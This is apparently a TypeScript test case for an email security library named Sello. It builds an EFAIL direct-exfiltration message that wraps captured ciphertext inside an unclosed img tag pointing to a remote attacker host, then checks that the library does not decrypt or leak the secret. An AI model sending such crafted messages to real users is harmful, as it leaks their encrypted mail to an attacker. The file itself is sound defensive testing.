/**
 * EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): captured ciphertext placed
 * between an unclosed <img src="http://attacker/? and a closing "> in a multipart/mixed. A client that
 * decrypts the part and concatenates the parts sends the plaintext to the attacker's server. Sello does
 * not decrypt an encrypted part inside an unprotected message, and never joins parts.
 */
import { FRAME, type AttackCase } from '../lib/attack-case';
import { bodyOf, encryptedTo, htmlEntity, message, multipart } from '../lib/message';
import { SECRET, secretHtml } from '../lib/secret';

export default {
  name: 'efail-direct-html-wrapping',
  class: 'efail-direct',
  source: 'Poddebniak et al., "Efail" (2018), direct exfiltration',
  async build(k) {
    const captured = await encryptedTo(
      k.bob,
      {},
      `Content-Type: text/html; charset=utf-8\r\n\r\n${secretHtml}\r\n`,
    );
    return message(
      { from: 'Eve <eve@evil.example>' },
      multipart('mixed', 'efail', [htmlEntity(`<img src="${k.remote}?`), bodyOf(captured), htmlEntity('">')]),
    );
  },
  expect: {
    valid: false,
    coverage: { kind: 'none' },
    fromMatchesSigner: false,
    integrityProtected: null,
    errors: [],
    warnings: ['smime.nested-pkcs7'],
    contentExcludes: [SECRET],
    frame: {
      statusIncludes: [FRAME.notEncrypted],
      statusExcludes: [FRAME.encrypted],
      pageExcludes: [SECRET],
      // One frame per displayed part, each labelled by coverage when the signature is partial.
      sections: [
        { path: '1', label: null },
        { path: '3', label: null },
      ],
    },
  },
} satisfies AttackCase;
